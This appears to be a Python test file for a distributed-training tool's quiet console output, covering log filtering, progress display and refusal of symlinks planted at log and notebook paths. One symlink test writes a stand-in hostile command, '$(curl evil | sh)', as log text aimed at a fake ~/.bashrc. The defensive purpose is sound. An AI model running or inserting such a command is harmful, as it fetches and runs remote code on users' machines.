"""A run is quiet by default: third-party loggers at WARNING, ranks' noise only in launch.log, a few terminal lines."""

from __future__ import annotations

import io
import logging
import os
import subprocess
import sys
import time
import warnings

import pytest
import torch
from helpers.terminal import pseudo_terminal

from textsql.console import (
    LOG_LEVEL_VAR,
    QUIET_ENVIRONMENT,
    THIRD_PARTY_LOGGERS,
    configure_cli,
    counted,
    is_verbose,
    set_log_level,
    shown_rank_line,
)
from textsql.display.terminal import StageView, cell_output_to
from textsql.errors import TextSQLError
from textsql.rundir.master_state import record_launch_hosts
from worker.files import UnsafePath

# Lines DeepSpeed's runner and the ranks print in a demo, read from a real launch.log.
NOISE = [
    "127.0.0.2: [2026-11-23 13:30:27,753] [INFO] [launch.py:170:main] dist_world_size=2",
    "127.0.0.3: [2026-11-23 13:30:26,176] [WARNING] [real_accelerator.py:213:get_accelerator] Setting accelerator to CPU.",
    "127.0.0.3: DeepSpeed deepspeed.ops.comm.deepspeed_shm_comm_op built successfully",
    "127.0.0.2:   0%|          | 0/200 [00:00<?, ?it/s]",
    "127.0.0.3: /venv/torch/distributed/c10d_logger.py:83: FutureWarning: `all_gather_into_tensor` is deprecated.",
    "127.0.0.2:   return func(*args, **kwargs)",
    "127.0.0.2: {'loss': '7.955', 'grad_norm': '0.8696', 'learning_rate': '0.002865', 'epoch': '0.3125'}",
    "127.0.0.2: ",
]
SHOWN = [
    "127.0.0.2: 13:30:52 WARNING __main__: rank 0/2 (local 0) on cpu: profile zero1, precision fp32",
    "127.0.0.2: step 20/200: loss 3.120 (14 s)",
    "127.0.0.2: stage: compiling DeepSpeed's shared-memory communication op for CPU (once per machine, about 2 min)",
    "127.0.0.3: Traceback (most recent call last):",
    "127.0.0.3: ValueError: the failing rank's reason",
    "pdsh@host: 127.0.0.3: ssh exited with exit code 1",
]


@pytest.fixture(autouse=True)
def restore_logging(monkeypatch):
    for name in (LOG_LEVEL_VAR, "PYTHONWARNINGS", *QUIET_ENVIRONMENT):
        monkeypatch.delenv(name, raising=False)
    levels = {name: logging.getLogger(name).level for name in THIRD_PARTY_LOGGERS}
    with warnings.catch_warnings():
        yield
    for name, level in levels.items():
        logging.getLogger(name).setLevel(level)


def test_third_party_loggers_are_at_warning_unless_verbose(monkeypatch):
    configure_cli(verbose=False)
    assert not is_verbose()
    assert all(logging.getLogger(name).level == logging.WARNING for name in THIRD_PARTY_LOGGERS)
    assert "ignore:IProgress not found" in os.environ["PYTHONWARNINGS"]
    assert all(os.environ[name] == value for name, value in QUIET_ENVIRONMENT.items())

    configure_cli(verbose=True)
    assert is_verbose() and os.environ[LOG_LEVEL_VAR] == "debug"
    assert all(logging.getLogger(name).level == logging.DEBUG for name in THIRD_PARTY_LOGGERS)
    assert not set(QUIET_ENVIRONMENT) & set(os.environ)


def test_a_count_of_one_is_singular():
    assert [counted(count, "question") for count in (0, 1, 2)] == ["0 questions", "1 question", "2 questions"]


def test_unknown_log_level_names_the_known_ones():
    with pytest.raises(
        TextSQLError, match="unknown log_level 'loud'; pass log_level one of debug, info, warning, error"
    ):
        set_log_level("loud")


def test_ranks_show_only_their_own_and_error_lines_unless_verbose():
    set_log_level("warning")
    assert [line for line in NOISE + SHOWN if shown_rank_line(line)] == SHOWN
    set_log_level("info")
    assert all(shown_rank_line(line) for line in NOISE)


@pytest.fixture
def launched(tmp_path):
    """A run directory whose launch runs rank 0 on 127.0.0.2, as the launch records it."""
    record_launch_hosts(tmp_path, ["127.0.0.2", "127.0.0.3"])
    return tmp_path


def test_stage_view_prints_a_line_per_stage_and_keeps_steps_on_one_bar(launched):
    with pseudo_terminal(columns=120, rows=24) as terminal:
        view = StageView(total=2, stream=terminal.stream, run_dir=launched)
        with view.stage("02_train_distributed"):
            for step in range(10, 201, 10):
                view.feed(f"127.0.0.2: step {step}/200: loss {5 - step / 100:.3f} ({step} s)")
            view.feed(SHOWN[2])
            view.feed(SHOWN[2].replace("127.0.0.2", "127.0.0.3"))  # the other node compiles its own copy
    # Counted as a terminal (and `wc -l`) counts them: the bar redraws in place with \r.
    lines = terminal.output.split("\n")
    assert len(lines) <= 4, lines
    assert terminal.output.count("compiling DeepSpeed's shared-memory communication op") == 1
    assert "200/200 steps" in terminal.output and "loss 3.000" in terminal.output
    assert lines[-2].rpartition("\r")[2].startswith("[1/2] 02_train_distributed done in")


class Clock:
    """A monotonic clock the test moves by hand."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def run_a_stage_of_two_steps_for_95_s(view: StageView, clock: Clock) -> None:
    """Step 20 at once, step 40 at 15 s, the stage's end at 95 s, the view ticked every second."""
    start = clock.now

    def tick_until(second: int) -> None:
        while clock.now < start + second:
            clock.now += 1
            view.tick()

    with view.stage("02_train_distributed"):
        view.feed("127.0.0.2: step 20/200: loss 3.120 (14 s)")
        tick_until(15)  # a line at 10 s, none at 11-15 s: the step did not move
        view.feed("127.0.0.2: step 40/200: loss 2.870 (28 s)")
        tick_until(95)  # the moved step at 20 s (10 s after the last line, not at once), a heartbeat at 80 s


PLAIN_LINES = [
    "[1/1] 02_train_distributed: 10 s step 20/200: loss 3.120",
    "[1/1] 02_train_distributed: 20 s step 40/200: loss 2.870",
    "[1/1] 02_train_distributed: 80 s step 40/200: loss 2.870",
    "[1/1] 02_train_distributed done in 95 s",
]


def test_stage_view_without_a_terminal_prints_plain_progress_lines_at_intervals(launched):
    """A CI log or a pipe cannot redraw a bar: a plain line when the step moved (at most every PLAIN_EVERY_S,
    10 s), and a heartbeat every PLAIN_HEARTBEAT_S (60 s) when it did not, never the same line every 10 s."""
    clock, stream = Clock(), io.StringIO()
    run_a_stage_of_two_steps_for_95_s(
        StageView(total=1, stream=stream, clock=clock, tick_s=None, run_dir=launched), clock
    )
    assert stream.getvalue().splitlines() == PLAIN_LINES


def test_stage_view_on_a_terminal_of_size_0x0_prints_the_plain_lines(launched):
    """A bare pty (some CI runners) is a terminal that says it is 0 columns wide: tqdm draws nothing there."""
    clock = Clock()
    with pseudo_terminal(columns=0, rows=0) as terminal:
        view = StageView(total=1, stream=terminal.stream, clock=clock, tick_s=None, run_dir=launched)
        run_a_stage_of_two_steps_for_95_s(view, clock)
    assert terminal.output.splitlines() == PLAIN_LINES


def test_stage_view_ticks_on_its_own_while_a_stage_runs():
    """With ``tick_s`` the view ticks in a thread of its own: a silent stage still gets its heartbeat."""
    clock, stream = Clock(), io.StringIO()
    view = StageView(total=1, stream=stream, clock=clock, tick_s=0.01)
    with view.stage("01_prepare_dataset"):
        clock.now += 60
        for _ in range(6000):  # a bound for a broken ticker, not a timing: the line comes at the next tick
            if stream.getvalue():
                break
            time.sleep(0.01)
    assert stream.getvalue().splitlines() == [
        "[1/1] 01_prepare_dataset: 60 s",
        "[1/1] 01_prepare_dataset done in 60 s",
    ]


def test_stage_view_shows_the_time_left_the_ranks_said_and_counts_it_down(launched):
    """The ranks' own estimate (textsql.training.time_left), never tqdm's: the stage's clock includes start-up."""
    clock, stream = Clock(), io.StringIO()
    view = StageView(total=1, stream=stream, clock=clock, tick_s=None, run_dir=launched)
    with view.stage("02_train_distributed"):
        view.feed("127.0.0.2: step 20/200: loss 3.120 (14 s)")
        view.feed("127.0.0.2: step 40/200: loss 2.870 (28 s, 300 s left)")
        for _ in range(10):
            clock.now += 1
            view.tick()
    assert stream.getvalue().splitlines()[0] == "[1/1] 02_train_distributed: 10 s step 40/200: 04:50 left, loss 2.870"
    with pseudo_terminal(columns=120, rows=24) as terminal:
        view = StageView(total=1, stream=terminal.stream, clock=clock, tick_s=None, run_dir=launched)
        with view.stage("02_train_distributed"):
            view.feed("127.0.0.2: step 40/200: loss 2.870 (28 s, 300 s left)")
            clock.now += 60
            view.tick()
    assert "40/200 steps [" in terminal.output and "05:00 left, loss 2.870]" in terminal.output
    assert "04:00 left, loss 2.870]" in terminal.output, "counted down at the tick"


def test_stage_view_reads_the_steps_from_the_growing_launch_log(launched):
    """Notebook 02 shows its steps as a bar of its own, not as output: the terminal follows launch.log instead,
    only what the stage adds to it, whole lines only, made safe to show like everything a rank prints."""
    log, clock, stream = launched / "launch.log", Clock(), io.StringIO()
    log.write_text("127.0.0.2: step 1990/2000: loss 0.100 (900 s, 5 s left)\n")  # a previous run's
    view = StageView(total=1, stream=stream, clock=clock, tick_s=None, follow=log, run_dir=launched)
    with view.stage("02_train_distributed"):
        with log.open("a") as growing:
            growing.write("127.0.0.2: stage: compiling\x1b[2J DeepSpeed's op\n127.0.0.2: step 20/200: loss 3.1")
            growing.flush()
            clock.now += 1
            view.tick()
            assert view.step is None, "a line still being written waits for its newline"
            growing.write("20 (14 s, 90 s left)\n")
        clock.now += 10
        view.tick()
    assert stream.getvalue().splitlines() == [
        "      compiling\\x1b[2J DeepSpeed's op (at 1 s)",
        "[1/1] 02_train_distributed: 11 s step 20/200: 01:30 left, loss 3.120",
        "[1/1] 02_train_distributed done in 11 s",
    ]


def test_stage_view_believes_step_lines_from_rank_0s_host_only(launched):
    """A worker on the second host prints a step line as if it were rank 0, into launch.log and as cell output:
    the view stays at rank 0's step 10, as the supervisor does (textsql.launching.launch_watch)."""
    log, clock, stream = launched / "launch.log", Clock(), io.StringIO()
    view = StageView(total=1, stream=stream, clock=clock, tick_s=None, follow=log, run_dir=launched)
    with view.stage("02_train_distributed"):
        log.write_text(
            "127.0.0.2: step 10/2000: loss 3.120 (14 s, 900 s left)\n127.0.0.3: step 1999/2000: loss 0.001\n"
        )
        view.feed("127.0.0.3: step 1999/2000: loss 0.001 (15 s, 1 s left)")
        clock.now += 10
        view.tick()
    assert stream.getvalue().splitlines()[0] == "[1/1] 02_train_distributed: 10 s step 10/2000: 15:00 left, loss 3.120"


def test_the_local_launchers_step_lines_carry_no_prefix():
    """No launch hosts (the local launcher): unprefixed step lines are rank 0's, a prefixed one is no one's."""
    clock, stream = Clock(), io.StringIO()
    view = StageView(total=1, stream=stream, clock=clock, tick_s=None)
    with view.stage("02_train_distributed"):
        view.feed("step 10/2000: loss 3.120 (14 s)")
        view.feed("127.0.0.3: step 1999/2000: loss 0.001 (15 s)")
        clock.now += 10
        view.tick()
    assert stream.getvalue().splitlines()[0] == "[1/1] 02_train_distributed: 10 s step 10/2000: loss 3.120"


def test_cell_output_goes_to_the_log_file_not_the_terminal(tmp_path, capsys):
    view = StageView(total=1, stream=io.StringIO(), live=False)
    with cell_output_to(tmp_path / "demo.log", view):
        logging.getLogger("papermill").warning("Tokenizing: 100%%|##########| 1000/1000")
    assert "Tokenizing" in (tmp_path / "demo.log").read_text()
    assert "Tokenizing" not in capsys.readouterr().err


def test_a_link_a_worker_planted_at_the_demo_log_is_never_written_through(tmp_path):
    """The demo's log lies in the run directory the pods share: a link there must not make the master append a
    rank's text to another file (a stand-in ~/.bashrc here)."""
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# the user's own\n")
    (tmp_path / "demo.log").symlink_to(bashrc)
    view = StageView(total=1, stream=io.StringIO(), live=False)
    with pytest.raises(UnsafePath, match="demo.log"), cell_output_to(tmp_path / "demo.log", view):
        logging.getLogger("papermill").warning("Error: $(curl evil | sh)")
    assert bashrc.read_text() == "# the user's own\n"


# The demo's refusal of a planted demo.log, as far as the interpreter's exit: the error is kept (as click keeps it
# while it prints the one line), and with it the handler whose log could not be opened.
REFUSED_DEMO_LOG = """
import io, sys
from pathlib import Path
from textsql.display.terminal import StageView, cell_output_to
from worker.files import UnsafePath
try:
    with cell_output_to(Path(sys.argv[1]), StageView(total=1, stream=io.StringIO(), live=False)):
        pass
except UnsafePath as error:
    refusal = error
    print(f"Error: {refusal}", file=sys.stderr)
"""


def test_a_refused_demo_log_is_one_line_to_the_end(tmp_path):
    """`textsql demo --resume` refused a planted demo.log in one line, then logging closed the half-made handler at
    exit: AttributeError: 'CellOutput' object has no attribute 'file'."""
    (tmp_path / "demo.log").symlink_to(tmp_path / "elsewhere")
    result = subprocess.run(
        [sys.executable, "-c", REFUSED_DEMO_LOG, str(tmp_path / "demo.log")],
        check=False,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0 and result.stderr.startswith("Error: refusing to write"), result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr


def test_papermill_writes_an_executed_notebook_without_following_a_planted_link(tmp_path):
    """Papermill writes RUN_DIR/notebooks/*.ipynb at the start and every 30 s: a link there is replaced, not
    written through (a stand-in ~/.profile here)."""
    import nbformat
    from papermill.iorw import write_ipynb

    from textsql.pipeline.runs import write_notebooks_without_following_links

    profile = tmp_path / "profile"
    profile.write_text("# the user's own\n")
    executed = tmp_path / "notebooks" / "01_prepare_dataset.ipynb"
    executed.parent.mkdir()
    executed.symlink_to(profile)
    write_notebooks_without_following_links()
    write_ipynb(nbformat.v4.new_notebook(), str(executed))
    assert profile.read_text() == "# the user's own\n"
    assert not executed.is_symlink() and nbformat.reads(executed.read_text(), as_version=4).cells == []


LOAD_A_SAVED_MODEL = """
import sys
from textsql.console import set_log_level
set_log_level(sys.argv[1])  # a notebook's first cell, before the libraries are imported
from deepspeed.accelerator import get_accelerator
from textsql.model import load_model
get_accelerator()
load_model().save_pretrained(sys.argv[2])
load_model(sys.argv[2])
"""


@pytest.mark.skipif(
    torch.cuda.is_available(), reason="DeepSpeed warns about its CPU accelerator only where there is no GPU"
)
@pytest.mark.slow  # a fresh Python that loads DeepSpeed and the model
def test_deepspeeds_accelerator_warning_and_the_loading_bar_only_when_verbose(tmp_path):
    """What notebook 02's estimate cell and notebook 03's model load printed: gone at warning, back at info."""
    outputs = {}
    for level in ("warning", "info"):
        environment = {
            name: value for name, value in os.environ.items() if name not in (LOG_LEVEL_VAR, *QUIET_ENVIRONMENT)
        }
        result = subprocess.run(
            [sys.executable, "-c", LOAD_A_SAVED_MODEL, level, str(tmp_path / level)],
            check=False,
            capture_output=True,
            text=True,
            env=environment,
            timeout=300,
        )
        assert result.returncode == 0, result.stderr[-3000:]
        outputs[level] = result.stdout + result.stderr
    assert "Setting accelerator to CPU" not in outputs["warning"] and "Loading weights" not in outputs["warning"], (
        outputs["warning"]
    )
    assert "Setting accelerator to CPU" in outputs["info"] and "Loading weights" in outputs["info"]
